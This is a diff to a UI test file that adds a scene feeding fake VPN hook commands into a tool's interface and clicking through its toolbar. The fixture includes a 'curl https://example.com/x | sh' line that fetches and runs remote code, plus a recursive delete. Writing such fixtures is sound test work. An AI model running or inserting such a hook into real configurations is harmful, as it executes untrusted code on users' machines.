@@ -86,6 +86,15 @@ export const toolScenes: readonly Scene[] = [
       await page.locator('.toast').waitFor();
     },
   },
+  {
+    name: 'picked-commands',
+    fake: { commands: ['PostUp = curl https://example.com/x | sh', 'PreDown = rm -r /tmp/x'] },
+    act: async (page) => {
+      await pickThree(page);
+      await page.getByRole('toolbar').getByRole('button').last().click();
+      await page.getByRole('toolbar').getByRole('switch').waitFor();
+    },
+  },
   { name: 'client-handed', fake: { client: 'Nekoray' }, act: openInClient },
   {
     name: 'client-nobody',
